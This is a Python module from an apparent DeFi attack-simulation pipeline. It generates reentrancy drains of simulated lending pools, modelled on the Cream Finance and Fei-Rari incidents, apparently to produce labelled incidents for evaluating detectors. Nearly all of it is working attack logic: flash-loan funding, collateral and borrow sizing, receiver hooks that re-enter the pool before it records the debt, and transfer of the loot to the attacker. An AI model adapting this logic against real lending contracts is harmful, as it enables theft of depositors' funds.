"""Reentrancy across the markets of a lending pool, which pays out before it writes (Cream, Fei-Rari)."""

from __future__ import annotations

from dataclasses import dataclass

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    padded,
    run_flash,
    run_script,
    run_steps,
    runner,
)
from pipelines.simulation.bytecode import SELF, Reaction, Step
from pipelines.simulation.compile import contract
from pipelines.simulation.engine import Account
from pipelines.simulation.habits.bots import swap_steps
from pipelines.simulation.habits.lending_pools import Market, Pool, cash, mint_step, pools, price
from pipelines.simulation.habits.odd_tokens import RECEIVED, register
from pipelines.simulation.habits.pool_contracts import ETHER_RECEIVED, swappable
from pipelines.simulation.habits.saving import wait
from pipelines.simulation.world import ETH, Part, Place, Send, Session, Token, World, step

KINDS = ("exit", "redeem", "hook-borrow", "hook-redeem")


@dataclass
class Move:
    """One way of robbing a pool, worked out on its present state for a contract at `me`."""

    deposit: int
    """Wei of collateral."""
    opening: list[Step]
    trigger: Step
    """Makes the pool pay out, whereupon the receiver makes the call `inside`."""
    inside: Step
    closing: list[Step]
    """Takes the collateral back, if the trigger has not done so; hands loot in tokens to the attacker."""
    selector: bytes
    """What the receiver is called with."""
    wrap: int
    """Wei of ether to wrap for paying back a flash loan."""


@dataclass(frozen=True)
class Plan:
    """What is to be robbed, how, and how thoroughly."""

    pool: Pool
    kind: str
    debt: Market
    """The market that pays out first."""
    most: float
    """Ether of collateral."""
    share: float
    borrowed: bool


def lending_reentrancy(world: World, incident: Incident) -> Session:
    """Be paid by one market; before it has noted that, borrow from or leave another."""
    found = _target(world)
    if found is None:
        return
    pool, kind, debt = found
    if debt.token is not None:
        incident.assets.append(debt.token)
    borrowed = kind != "redeem" and world.chance(0.4)
    most = 400.0 if borrowed else min(world.amount(18.0, 0.6), 60.0)
    plan = Plan(pool, kind, debt, most, 0.05 + 0.92 * world.rng.random(), borrowed)
    who = yield from attacker(world, incident, 2.0 if borrowed else most)
    incident.variant += [kind, "flash-loan" if borrowed else "own-money"]
    if world.chance(0.45):
        yield from _by_script(world, incident, who, plan)
    else:
        yield from _by_executor(world, incident, who, plan)
    if not incident.exploits:
        return
    incident.finish()
    yield from leave(world, incident, who)


def _target(world: World) -> tuple[Pool, str, Market] | None:
    """Return a pool, a way to rob it, and the market that pays (the nested one: see `_work_out`)."""
    options: list[tuple[Pool, str, Market]] = []
    for pool in pools(world):
        if cash(world, pool.markets[0]) > 8 * ETH:
            options.append((pool, "exit", pool.markets[0]))
        for market, token in swappable(world, pool):
            if cash(world, market) < market.units(8.0):
                continue
            options.append((pool, "redeem", market))
            if token.kind == "hook_token":
                options += [(pool, "hook-borrow", market), (pool, "hook-redeem", market)]
    if not options:
        return None
    kind = world.pick(KINDS)
    fitting = [option for option in options if option[1] == kind]
    chosen: tuple[Pool, str, Market] = world.pick(fitting or options)
    return chosen


def _work_out(world: World, plan: Plan, me: bytes, who: Account) -> Move | None:
    """Return the move for the pool's present state; None if hardly anything is left to take."""
    pool, kind, debt = plan.pool, plan.kind, plan.debt
    ether, comptroller = pool.markets[0], pool.place.address
    factor = world.view("comptroller", comptroller, "collateralFactor", ether.address)
    rate = price(world, pool, debt)
    room = int(cash(world, debt) * 97 // 100 * plan.share)
    if kind == "hook-borrow":
        room = min(room, cash(world, ether) * 97 // 100 * ETH // rate)
    deposit = min(int(plan.most * 0.9 * ETH), room * rate // factor * 103 // 100)
    worth = deposit * factor // ETH * 96 // 100
    if kind == "redeem":
        # While the collateral is paid back, its shares still count, but at a rate without that payment.
        total = _total(world, ether)
        worth = worth * total // (total + deposit)
    amount = worth * ETH // rate
    if worth < ETH // 4:
        return None
    opening = [mint_step(ether, deposit), step("comptroller", comptroller, "enterMarkets", [ether.address])]
    borrow = step("ctoken", debt.address, "borrow", amount)
    back = step("ctoken", ether.address, "redeemUnderlying", deposit * 9999 // 10000)
    closing = _loot(world, debt.token, me, who, amount, sold=plan.borrowed and kind == "hook-borrow")
    if kind == "exit":
        inside = step("comptroller", comptroller, "exitMarket", ether.address)
        return Move(deposit, opening, borrow, inside, [back], ETHER_RECEIVED, deposit * 1001 // 1000)
    if kind == "redeem":
        return Move(deposit, opening, back, borrow, closing, ETHER_RECEIVED, 0)
    opening.insert(0, register(world, me))
    if kind == "hook-redeem":
        return Move(deposit, opening, borrow, back, closing, RECEIVED, deposit * 1001 // 1000)
    second = step("ctoken", ether.address, "borrow", worth)
    return Move(deposit, opening, borrow, second, closing, RECEIVED, worth)


def _total(world: World, market: Market) -> int:
    """Return what a market's shares are worth together."""
    rate = world.view("ctoken", market.address, "exchangeRateStored")
    return int(world.view("ctoken", market.address, "totalSupply") * rate // ETH)


def _loot(
    world: World, token: Token | None, me: bytes, who: Account, amount: int, *, sold: bool
) -> list[Step]:
    """Return the steps that hand borrowed tokens to the attacker, or sell them to pay back a loan."""
    if token is None:
        return []
    if sold:
        return swap_steps(world, [token, world.weth], amount, me)
    return [step("token", token.address, "transfer", who.address, amount)]


def _by_script(world: World, incident: Incident, who: Account, plan: Plan) -> Part:
    """A contract written for it, which reacts to the ether or the tokens that it is paid."""
    incident.variant.append("script")
    move = _work_out(world, plan, SELF, who)
    if move is None:
        return
    steps = padded(world, [*move.opening, move.trigger, *move.closing])
    if not plan.borrowed:
        if plan.kind != "hook-borrow" and world.chance(0.6):
            steps.append(Step(who.address, move.deposit * 9999 // 10000, b""))
        reaction = Reaction(move.selector, [move.inside])
        yield from run_script(world, incident, who, steps, reactions=[reaction], value=move.deposit)
        return
    weth, loan = world.weth.address, move.deposit
    lender = world.pick(world.places["flash_lender"]).address
    inner = [
        step("weth", weth, "withdraw", loan),
        *steps,
        step("weth", weth, "deposit", value=move.wrap),
        step("token", weth, "approve", lender, loan * 2),
    ]
    outer = [step("flash_lender", lender, "flashLoan", SELF, weth, loan, b"")]
    # Unwrapping the loan pays ether, too, and uses up the first reaction without effect.
    times = 2 if move.selector == ETHER_RECEIVED else 1
    reactions = [Reaction(move.selector, [move.inside], times=times)]
    value = 0 if plan.kind == "exit" else loan // 400
    yield from run_script(world, incident, who, outer, inner=inner, reactions=reactions, value=value)


def _arm(tool: Place, move: Move) -> Step:
    return step("executor", tool.address, "onReceive", move.inside.target, move.inside.data, 0, 1)


def unencumbered(world: World, incident: Incident, who: Account, pool: Pool) -> Part:
    """Return an executor of the attacker that has no position in the pool yet."""
    tool: Place = yield from runner(world, incident, who)
    for market in pool.markets:
        call = ("checkMembership", tool.address, market.address)
        if world.view("comptroller", pool.place.address, *call):
            receipt = yield Send(who, None, contract("executor").create(), tag=incident.tag("prep"))
            incident.parties.append(receipt.made)
            return world.add(Place("executor", receipt.made, who))
    return tool


def _by_executor(world: World, incident: Incident, who: Account, plan: Plan) -> Part:
    """Through an executor: in one transaction, with own money or a flash loan, or in several."""
    tool = yield from unencumbered(world, incident, who, plan.pool)
    move = _work_out(world, plan, tool.address, who)
    if move is None:
        return
    if not plan.borrowed and world.chance(0.55):
        yield from _in_parts(world, incident, who, tool, plan, move)
        return
    incident.variant.append("executor")
    steps = [_arm(tool, move), *move.opening, move.trigger, *move.closing]
    if plan.borrowed:
        weth, loan = world.weth.address, move.deposit
        value = 0 if plan.kind == "exit" else loan // 400
        steps.insert(0, step("weth", weth, "withdraw", loan))
        steps.append(step("weth", weth, "deposit", value=move.wrap))
        yield from run_flash(world, incident, who, tool, steps, loan, value=value)
    else:
        yield from run_steps(world, incident, who, tool, steps)
    yield from home(world, incident, who, tool)


def _in_parts(world: World, incident: Incident, who: Account, tool: Place, plan: Plan, move: Move) -> Part:
    """Two or three short transactions of an executor: supply, be paid twice, take the collateral back."""
    incident.variant.append("in-parts")
    armed = world.chance(0.5)
    opening, arm = move.opening, [_arm(tool, move)]
    yield from _run(incident, "prep", who, tool, [*opening, *arm] if armed else opening)
    if world.chance(0.5):
        yield from wait(world, 30)
    yield from _run(incident, "exploit", who, tool, [move.trigger] if armed else [*arm, move.trigger])
    if move.closing:
        stage = "exploit" if plan.kind == "exit" else "exit"
        yield from _run(incident, stage, who, tool, move.closing)
    yield from home(world, incident, who, tool)


def _run(incident: Incident, stage: str, who: Account, tool: Place, steps: list[Step]) -> Part:
    calls = [(s.target, s.value, s.data) for s in steps]
    value = sum(s.value for s in steps)
    yield incident.call(stage, who, "executor", tool.address, "run", calls, value=value)


FAMILIES = (
    Family(
        name="lending_reentrancy",
        tier="structural",
        split="eval",
        modelled_on="Cream Finance (2021), Fei-Rari (2022)",
        about="A pool's market pays out before it writes the debt; the receiver's hook borrows from, or "
        "leaves, another market.",
        run=lending_reentrancy,
    ),
)
